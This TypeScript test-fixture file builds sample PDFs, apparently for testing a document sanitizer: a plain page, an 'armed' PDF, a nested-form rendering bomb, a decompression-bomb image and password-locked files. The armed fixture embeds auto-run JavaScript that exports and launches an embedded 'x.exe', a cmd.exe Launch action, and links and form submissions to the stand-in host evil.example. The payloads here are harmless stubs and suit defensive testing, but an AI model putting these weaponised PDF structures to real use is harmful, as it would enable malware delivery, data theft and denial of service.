import { buffer } from 'node:stream/consumers'
import { deflateSync } from 'node:zlib'
import PDFDocument from 'pdfkit'

/** A PDF of the given objects, written by hand: the first is the catalog. */
export function pdfOf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const at: number[] = []
  let length = parts[0]!.length
  const add = (part: Buffer) => {
    parts.push(part)
    length += part.length
  }
  for (const [i, object] of objects.entries()) {
    at.push(length)
    add(Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]))
  }
  const rows = at.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`)
  const size = objects.length + 1
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${rows.join('')}`
  add(
    Buffer.from(`${table}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`),
  )
  return Buffer.concat(parts)
}

export function stream(content: string | Buffer, entries = ''): Buffer {
  const packed = deflateSync(content)
  const head = `<< /Length ${packed.length} /Filter /FlateDecode ${entries} >>\nstream\n`
  return Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream')])
}

const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
const page = (more = '') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R
      /Resources << /Font << /F 5 0 R >> >> ${more} >>`
const words = stream('BT /F 36 Tf 60 700 Td (AKTA KEMATIAN) Tj ET')

/** One page of words. */
export const plainPdf = (): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    page(),
    words,
    font,
  ])

/** The same page with everything a PDF can do besides being read. */
export const armedPdf = (): Buffer =>
  pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /URI << /Base (http://evil.example/) >>
        /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(x.exe) 8 0 R] >> >>
        /AcroForm << /Fields [11 0 R] /XFA 13 0 R >> /Metadata 14 0 R >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    page('/AA << /O 6 0 R >> /Annots [7 0 R 10 0 R 11 0 R 12 0 R]'),
    words,
    font,
    '<< /S /JavaScript /JS (app.alert\\("owned"\\); this.exportDataObject\\({cName: "x.exe", nLaunch: 2}\\)) >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (http://evil.example/steal) >> >>',
    '<< /Type /Filespec /F (x.exe) /EF << /F 9 0 R >> >>',
    stream('MZ this is a program', '/Type /EmbeddedFile'),
    '<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] /FS 8 0 R >>',
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [50 50 100 100]
        /A << /S /SubmitForm /F (http://evil.example/form) >> >>`,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >> >>',
    stream('<xdp:xdp><script contentType="application/x-javascript">app.alert(1)</script></xdp:xdp>'),
    stream('<x:xmpmeta><dc:creator>evil</dc:creator></x:xmpmeta>', '/Type /Metadata /Subtype /XML'),
  ])

/** So many real pages. */
export function longPdf(pages: number): Buffer {
  const kids = Array.from({ length: pages }, (_, i) => i + 4)
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids.map((kid) => `${kid} 0 R`).join(' ')}] /Count ${pages} >>`,
    stream('10 10 100 100 re f'),
    ...kids.map(() => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>'),
  ])
}

/** Forms that draw forms that draw forms: ten lines of text, and more work than the age of the world. */
export function endlessPdf(depth = 14): Buffer {
  const first = 5
  const level = (i: number) =>
    stream(
      i === depth ? '0 0 10 10 re f' : '/X Do '.repeat(10),
      `/Type /XObject /Subtype /Form /BBox [0 0 595 842] ${i === depth ? '' : `/Resources << /XObject << /X ${first + i + 1} 0 R >> >>`}`,
    )
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>',
    stream('/X Do'),
    ...Array.from({ length: depth + 1 }, (_, i) => level(i)),
  ])
}

/** A picture of so many points a side on one page, all zeros and so nearly nothing when packed. */
export const swollenPdf = (side: number): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>',
    stream('500 0 0 700 20 20 cm /I Do'),
    stream(
      Buffer.alloc(side * side * 3),
      `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceRGB /BitsPerComponent 8`,
    ),
  ])

/** Locked by a password; with `open` anybody may look, and only printing asks for it. */
export async function lockedPdf(open: boolean): Promise<Buffer> {
  const document = new PDFDocument({
    ...(open ? { ownerPassword: 'rahasia' } : { userPassword: 'rahasia' }),
    permissions: { printing: undefined },
  })
  const written = buffer(document)
  document.fontSize(30).text('AKTA KEMATIAN')
  document.end()
  return await written
}
